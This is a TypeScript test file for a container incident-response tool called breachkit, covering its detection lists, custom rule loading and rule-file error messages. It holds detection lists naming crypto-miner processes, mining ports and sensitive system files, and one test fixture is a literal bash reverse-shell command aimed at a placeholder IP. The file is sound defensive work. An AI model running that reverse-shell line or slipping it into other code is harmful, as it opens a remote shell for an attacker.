import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { basename, dirname, join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runCli } from "../../../src/cli/main.js";
import {
  compileIocRules,
  compileRules,
  findingsFromHits,
  huntBuffer,
  IOC_LOG_RULE,
} from "../../../src/judge/hunt/index.js";
import { iocFromArgs } from "../../../src/judge/ioc/ioc-set.js";
import { jsonSyntaxError, jsonValueLines } from "../../../src/judge/json-lines.js";
import { BUILTIN_RULE_IDS } from "../../../src/judge/rule-ids.js";
import {
  LIST_FILES,
  loadLists,
  loadRuleSet,
  matchesName,
  SHIPPED_RULES_DIR,
  shippedLists,
} from "../../../src/judge/rule-set.js";
import { SEVERITIES } from "../../../src/model/finding.js";
import { packagePath } from "../../../src/util/package-root.js";
import { memoryIo } from "../../helpers/memory-io.js";
import { SnapshotBuilder } from "../../helpers/snapshot-builder.js";

const tmp = mkdtempSync(join(tmpdir(), "bk-rule-set-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

let n = 0;
/** A fresh --rules directory holding these files (paths relative to it). */
function rulesDir(files: Record<string, string>): string {
  const dir = join(tmp, `rules-${++n}`);
  mkdirSync(dir);
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  return dir;
}

const RULE = `id: hunt.extra
title: Extra needle
severity: high
confidence: medium
next: look at {where}
literal: needle
pattern: needle [0-9]+
example: needle 42
not: needle x
`;

const list = (o: Record<string, unknown>) =>
  `${JSON.stringify({ version: 1, description: "mine", ...o }, null, 2)}\n`;

// A bundle to judge offline: a container with a log holding "needle 42" and a connection
// to 203.0.113.9:2222 (not a shipped mining port).
const bundle = join(tmp, "bundle");
{
  const snap = new SnapshotBuilder()
    .container({ name: "web" })
    .process({ pid: 40, comm: "app", exe: { path: "/usr/bin/app" } }, "web")
    .socket(
      {
        state: "ESTABLISHED",
        localPort: 40000,
        remoteAddress: "203.0.113.9",
        remotePort: 2222,
        pids: [40],
      },
      "web",
    )
    .build();
  mkdirSync(join(bundle, "containers", "web"), { recursive: true });
  writeFileSync(join(bundle, "snapshot.json"), JSON.stringify(snap));
  writeFileSync(
    join(bundle, "containers", "web", "web-json.log"),
    '{"log":"GET / 200\\n","stream":"stdout","time":"2026-03-01T10:00:00Z"}\n{"log":"needle 42\\n","stream":"stdout","time":"2026-03-01T10:00:01Z"}\n',
  );
}

async function triage(...args: string[]) {
  const m = memoryIo();
  const code = await runCli(["triage", "--json", "--bundle", bundle, ...args], m.io);
  return { code, stdout: m.stdout(), stderr: m.stderr() };
}

/** The one-line error of a command ended by a broken rule file. */
async function triageError(dir: string): Promise<string> {
  const r = await triage("--rules", dir);
  expect(r.code, r.stderr).toBe(2);
  expect(r.stderr).not.toMatch(/internal error|a bug in breachkit/);
  return /^error: (.*)$/m.exec(r.stderr)?.[1] ?? r.stderr;
}

describe("the shipped lists", () => {
  const lists = shippedLists();
  it("are the lists the code held before they moved to rules/*.json", () => {
    expect([...lists.miningPorts]).toEqual([
      3333, 3334, 3357, 4444, 5555, 5556, 6666, 7777, 8899, 9999, 10128, 10343, 13333, 14433, 14444,
      17777, 20580, 45560, 45700,
    ]);
    expect(lists.hostFiles).toEqual([
      "/etc/passwd",
      "/etc/group",
      "/etc/sudoers",
      "/etc/ssh/sshd_config",
      "/etc/crontab",
      "/etc/anacrontab",
      "/etc/ld.so.preload",
      "/etc/rc.local",
      "/etc/hosts",
      "/etc/sudoers.d/",
      "/etc/ssh/sshd_config.d/",
      "/etc/cron.d/",
      "/etc/cron.hourly/",
      "/etc/cron.daily/",
      "/etc/cron.weekly/",
      "/etc/cron.monthly/",
      "/var/spool/cron/",
    ]);
    expect(lists.stagingDirs).toEqual([
      "/tmp/",
      "/var/tmp/",
      "/dev/shm/",
      "/run/shm/",
      "/dev/mqueue/",
    ]);
    expect(lists.wellKnownDaemons.size).toBe(25);
    expect(lists.nologinServices.has("www-data") && !lists.nologinServices.has("git")).toBe(true);
    expect([...lists.hostCapabilities].sort()).toEqual(
      ["ALL", "BPF", "DAC_READ_SEARCH", "SYS_ADMIN", "SYS_BOOT", "SYS_MODULE", "SYS_RAWIO"].sort(),
    );
  });
  it("match names exactly as the regular expressions they replace", () => {
    const KTHREAD =
      /^(kworker\/|ksoftirqd\/|kthreadd$|migration\/|rcu_|kswapd|khugepaged|kdevtmpfs|kauditd|jbd2\/|kblockd|kcompactd|cpuhp\/|irq\/|oom_reaper|khungtaskd|ksmd|kintegrityd|kthrotld|writeback|kstrp|netns$)/;
    const MINER =
      /^(xmrig|xmr-stak|minerd|cpuminer|kdevtmpfsi|kinsing|nbminer|t-rex|lolminer|phoenixminer|ethminer|cgminer|bfgminer|srbminer|teamredminer|xmrigdaemon|kthreaddi)/i;
    const names = [
      "kworker/0:1H",
      "kworker",
      "kthreadd",
      "kthreaddi",
      "kthreadd2",
      "rcu_sched",
      "rcu",
      "netns",
      "netns1",
      "kswapd0",
      "kdevtmpfs",
      "kdevtmpfsi",
      "jbd2/sda1-8",
      "irq/24-ahci",
      "writeback",
      "XMRig",
      "xmrig-6.21",
      "MinerD",
      "kinsing",
      "t-rex",
      "trex",
      "nginx",
      "sshd",
      "",
      "cpuminer-opt",
      "oom_reaper",
      "ksmd",
      "kstrp",
      "migration/3",
      "migration",
    ];
    for (const name of names) {
      expect(matchesName(lists.kernelThreads, name), name).toBe(KTHREAD.test(name));
      expect(matchesName(lists.minerNames, name), name).toBe(MINER.test(name));
    }
  });
  it("each carry a version, a description, and reasons where an entry needs one", () => {
    for (const name of LIST_FILES) {
      const data = JSON.parse(readFileSync(join(SHIPPED_RULES_DIR, name), "utf8"));
      expect(data.version, name).toBe(1);
      expect(data.description.length, name).toBeGreaterThan(40);
    }
  });
});

describe("a --rules directory", () => {
  it("extends a list, removes from it, or replaces it, as its mode says", () => {
    const dir = rulesDir({
      "mining-ports.json": list({
        mode: "extend",
        entries: [2222],
        remove: [4444],
        examples: [2222, 3333],
        nearMisses: [4444],
      }),
      "staging-dirs.json": list({
        mode: "replace",
        entries: ["/scratch/"],
        examples: ["/scratch/x"],
        nearMisses: ["/tmp/x"],
      }),
    });
    const r = loadLists(dir);
    if (!r.ok) throw new Error(r.error.message);
    expect(r.value.lists.miningPorts.has(2222)).toBe(true);
    expect(r.value.lists.miningPorts.has(4444)).toBe(false);
    expect(r.value.lists.miningPorts.has(3333)).toBe(true);
    expect(r.value.lists.stagingDirs).toEqual(["/scratch/"]);
    expect(r.value.files).toContain(join(dir, "mining-ports.json"));
  });
  it("treats capabilities written two ways as one, and refuses to remove what is not there", () => {
    const caps = rulesDir({
      "host-capabilities.json": list({
        mode: "extend",
        entries: ["sys_admin", "CAP_SYS_CHROOT"],
        remove: ["cap_bpf"],
      }),
    });
    const r = loadLists(caps);
    if (!r.ok) throw new Error(r.error.message);
    expect([...r.value.lists.hostCapabilities].sort()).toEqual([
      "ALL",
      "DAC_READ_SEARCH",
      "SYS_ADMIN",
      "SYS_BOOT",
      "SYS_CHROOT",
      "SYS_MODULE",
      "SYS_RAWIO",
    ]);
    const stale = rulesDir({
      "mining-ports.json": list({ mode: "extend", entries: [], remove: [4445] }),
    });
    const bad = loadLists(stale);
    expect(!bad.ok && bad.error.message).toBe(
      `${join(stale, "mining-ports.json")}:7: remove[0]: 4445 is not in the shipped list`,
    );
  });
  it("adds hunt rules, beside the lists or in hunt/, after the shipped ones", async () => {
    const dir = rulesDir({
      "extra.rule": RULE,
      "hunt/other.rule": RULE.replace("hunt.extra", "hunt.other"),
    });
    const r = await loadRuleSet(dir);
    if (!r.ok) throw new Error(r.error.message);
    expect(r.value.hunt.slice(-2).map((x) => x.id)).toEqual(["hunt.extra", "hunt.other"]);
    expect(r.value.hunt[0]!.file.startsWith(SHIPPED_RULES_DIR)).toBe(true);
  });
  it("works offline with triage --bundle: its rules hunt, its lists judge", async () => {
    const plain = await triage();
    expect(plain.code, plain.stderr).not.toBe(2);
    const ids = (out: string) =>
      (JSON.parse(out).findings as { rule: string }[]).map((f) => f.rule);
    expect(ids(plain.stdout)).not.toContain("hunt.extra");
    expect(ids(plain.stdout)).not.toContain("socket.mining-port");
    const dir = rulesDir({
      "extra.rule": RULE,
      "mining-ports.json": list({
        mode: "extend",
        entries: [{ value: 2222, reason: "our pool proxy" }],
      }),
    });
    const tuned = await triage("--rules", dir);
    expect(tuned.code, tuned.stderr).not.toBe(2);
    expect(ids(tuned.stdout)).toEqual(expect.arrayContaining(["hunt.extra", "socket.mining-port"]));
  });
});

describe("a broken rule file ends triage and contain with file:line and exit 2", () => {
  it("a bad severity", async () => {
    const dir = rulesDir({ "hunt/extra.rule": RULE.replace("severity: high", "severity: severe") });
    expect(await triageError(dir)).toBe(
      `${join(dir, "hunt", "extra.rule")}:3: severity "severe" is not one of ${SEVERITIES.join(", ")}`,
    );
  });
  it("a regex that does not compile", async () => {
    const dir = rulesDir({ "extra.rule": RULE.replace("needle [0-9]+", "needle ([0-9]+") });
    expect(await triageError(dir)).toBe(
      `${join(dir, "extra.rule")}:7: pattern does not compile: Invalid regular expression: /needle ([0-9]+/: Unterminated group`,
    );
  });
  it("a missing key", async () => {
    const dir = rulesDir({ "extra.rule": RULE.replace("title: Extra needle\n", "") });
    expect(await triageError(dir)).toBe(`${join(dir, "extra.rule")}:1: missing "title:"`);
  });
  it("an id the shipped rules already use", async () => {
    const shipped = packagePath("rules", "hunt", "reverse-shell.rule");
    const dir = rulesDir({});
    mkdirSync(join(dir, "hunt"));
    copyFileSync(shipped, join(dir, "hunt", "reverse-shell.rule"));
    expect(await triageError(dir)).toBe(
      `${join(dir, "hunt", "reverse-shell.rule")}:3: duplicate rule id "hunt.reverse-shell" (also in ${shipped})`,
    );
  });
  it("a rule's example that does not hit", async () => {
    const dir = rulesDir({ "extra.rule": RULE.replace("example: needle 42", "example: needle") });
    expect(await triageError(dir)).toBe(
      `${join(dir, "extra.rule")}:8: example: "needle" does not hit the rule`,
    );
  });
  it("a list's example that does not match", async () => {
    const dir = rulesDir({
      "mining-ports.json": list({ mode: "replace", entries: [2222], examples: [2222, 3333] }),
    });
    expect(await triageError(dir)).toBe(
      `${join(dir, "mining-ports.json")}:10: example 3333 does not match the list`,
    );
  });
  it("a list's near-miss that matches", async () => {
    const dir = rulesDir({
      "kernel-threads.json": list({ mode: "extend", entries: ["kmy*"], nearMisses: ["kmyd"] }),
    });
    expect(await triageError(dir)).toBe(
      `${join(dir, "kernel-threads.json")}:9: near-miss "kmyd" matches the list`,
    );
  });
  it("a list that is not JSON, at its line", async () => {
    const dir = rulesDir({
      "mining-ports.json":
        '{\n  "version": 1,\n  "mode": "extend",\n  "entries": [2222,],\n  "description": "x"\n}\n',
    });
    expect(await triageError(dir)).toBe(
      `${join(dir, "mining-ports.json")}:4: not valid JSON: expected another value (no comma before ]), found "]"`,
    );
  });
  it("a list entry of the wrong kind, at its line", async () => {
    const dir = rulesDir({
      "mining-ports.json": list({ mode: "extend", entries: [2222, "3333"] }),
    });
    expect(await triageError(dir)).toBe(
      `${join(dir, "mining-ports.json")}:7: entries[1]: an entry is a port number, 1 to 65535, or {"value": …, "reason": "why"}`,
    );
  });
  it("a list without a mode, or with an unknown key, or of an unknown name", async () => {
    const noMode = rulesDir({ "staging-dirs.json": list({ entries: ["/x/"] }) });
    expect(await triageError(noMode)).toMatch(
      new RegExp(`^${join(noMode, "staging-dirs.json")}:1: missing "mode": "extend" adds`),
    );
    const extra = rulesDir({
      "staging-dirs.json": list({ mode: "extend", entries: [], colour: 1 }),
    });
    expect(await triageError(extra)).toMatch(
      new RegExp(`^${join(extra, "staging-dirs.json")}:6: unknown key "colour"`),
    );
    const typo = rulesDir({ "mining-port.json": list({ mode: "extend", entries: [] }) });
    expect(await triageError(typo)).toBe(
      `${join(typo, "mining-port.json")}: not a list breachkit knows (known: ${LIST_FILES.join(", ")})`,
    );
  });
  it("contain checks its --rules before it touches anything", async () => {
    const dir = rulesDir({ "mining-ports.json": list({ mode: "extend", entries: [0] }) });
    const m = memoryIo({ env: { DOCKER_HOST: "unix:///nonexistent.sock" } });
    expect(await runCli(["contain", "web", "--dry-run", "--rules", dir], m.io)).toBe(2);
    expect(m.stderr()).toContain(
      `error: ${join(dir, "mining-ports.json")}:6: entries[0]: an entry is a port number`,
    );
  });
});

describe("jsonSyntaxError", () => {
  it("agrees with JSON.parse and says where and what was expected", () => {
    const cases: [string, number | null, string?][] = [
      ['{"a": [1, 2], "b": {"c": "x\\u0041"}, "d": -1.5e3, "e": null}', null],
      ["{\n  'a': 1\n}", 4, 'expected a string in double quotes, found "\'"'],
      ['{"a": 1,}', 8, 'expected another key (no comma before }), found "}"'],
      ['{"a" 1}', 5, 'expected ":", found "1"'],
      ['{"a": 01}', 7, 'expected "," or "}", found "1"'],
      ['["a\\x"]', 4, "expected an escape"],
      ["[1] 2", 4, "expected the end of the file"],
      ['{"a": tru}', 6, "expected a value"],
      ['["abc', 5, "expected a closing quote"],
    ];
    for (const [text, offset, message] of cases) {
      const r = jsonSyntaxError(text);
      let parses = true;
      try {
        JSON.parse(text);
      } catch {
        parses = false;
      }
      expect(r === null, text).toBe(parses);
      if (offset !== null) {
        expect(r?.offset, text).toBe(offset);
        expect(r?.message, text).toContain(message);
      }
    }
  });
});

describe("jsonValueLines", () => {
  it("finds the line of every value by its path", () => {
    const lines = jsonValueLines('{\n  "a": [1,\n    {"b": "x\\"y"}],\n  "c": {}\n}');
    expect(Object.fromEntries(lines)).toEqual({
      "": 1,
      a: 2,
      "a.0": 2,
      "a.1": 3,
      "a.1.b": 3,
      c: 4,
    });
  });
});

describe("one id per rule", () => {
  it("the judge's code emits exactly the registered built-in ids", () => {
    const dir = join(SHIPPED_RULES_DIR, "..", "src", "judge", "rules");
    const emitted = new Set<string>();
    for (const f of readdirSync(dir)) {
      const text = readFileSync(join(dir, f), "utf8");
      for (const m of text.matchAll(
        /"((?:process|socket|container|account|login|traffic|spread|ioc)\.[a-z0-9-]+)"/g,
      )) {
        emitted.add(m[1]!);
      }
    }
    expect([...emitted].sort()).toEqual(Object.keys(BUILTIN_RULE_IDS).sort());
  });
  it("hunting rules carry their id, and their findings carry it too", async () => {
    const r = await loadRuleSet();
    if (!r.ok) throw new Error(r.error.message);
    for (const rule of r.value.hunt) {
      expect(rule.id).toBe(`hunt.${basename(rule.file, ".rule")}`);
      expect(BUILTIN_RULE_IDS[rule.id]).toBeUndefined();
    }
    const hits = huntBuffer(
      Buffer.from("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
      compileRules(r.value.hunt),
      "f",
    );
    expect(
      findingsFromHits(hits, r.value.hunt, { origin: { where: "host", containerId: null } }).map(
        (f) => f.rule,
      ),
    ).toEqual(["hunt.reverse-shell"]);
  });
  it("every IOC found in a log is ioc.log, told apart by its indicator", () => {
    const iocs = iocFromArgs(["wate", "203.0.113.9"]);
    if (!iocs.ok) throw new Error(iocs.error.message);
    const set = compileIocRules(iocs.value);
    const hits = huntBuffer(Buffer.from("ran /tmp/wate\nto 203.0.113.9:4444\n"), set, "f");
    const fs = findingsFromHits(hits, set, { origin: { where: "host", containerId: null } });
    expect(fs.map((f) => f.rule)).toEqual([IOC_LOG_RULE, IOC_LOG_RULE]);
    expect(fs.map((f) => f.title)).toEqual([
      expect.stringContaining("name:wate"),
      expect.stringContaining("ip:203.0.113.9"),
    ]);
  });
});

describe("judge rules take the rule set as data", () => {
  it("no rule reads a file or loads lists itself: the command passes them in RuleContext", () => {
    const dir = join(SHIPPED_RULES_DIR, "..", "src", "judge", "rules");
    const offenders = readdirSync(dir).filter((f) =>
      /node:fs|shippedLists|loadLists|loadRuleSet|packagePath/.test(
        readFileSync(join(dir, f), "utf8"),
      ),
    );
    expect(offenders).toEqual([]);
  });
});
